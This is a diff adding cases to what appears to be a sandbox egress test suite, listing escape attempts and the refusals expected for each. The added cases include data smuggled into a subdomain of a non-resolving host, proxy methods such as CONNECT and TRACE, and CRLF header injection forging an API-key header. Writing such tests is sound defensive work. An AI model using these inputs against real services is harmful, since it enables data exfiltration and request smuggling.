@@ -95,6 +95,22 @@ export const egress: readonly EgressAttempt[] = [
     seen: ['upgrade_refused', 200],
   },
   {
+    intent: 'carry data out in the name of a host',
+    code: "return [await ask('https://no-such-name.invalid/'), await ask('https://c2VjcmV0.no-such-name.invalid/')]",
+    seen: ['host_refused', 'origin_not_allowed'],
+  },
+  {
+    intent: 'use methods that proxies understand',
+    code: "return Promise.all(['CONNECT', 'TRACE', 'TRACK', 'PURGE'].map((method) => ask(input.elsewhere + '/', { method })))",
+    // Bun knows no TRACK and asks by GET: what arrives is looked at by the test.
+    seen: ['method_refused', 'method_refused', 200, 'method_refused'],
+  },
+  {
+    intent: 'end a header early and begin another',
+    code: "return [await ask(input.elsewhere + '/', { headers: { 'x-a': 'a\\r\\nx-api-key: forged' } }), await ask(input.elsewhere + '/', { headers: { 'x-a\\r\\nx-b': 'b' } })]",
+    seen: ['TypeError', 'TypeError'],
+  },
+  {
     intent: 'keep its way out after it has answered',
     code: `globalThis.late = 'not asked yet'
       setTimeout(async () => { globalThis.late = await ask(input.elsewhere + '/late') }, 200)
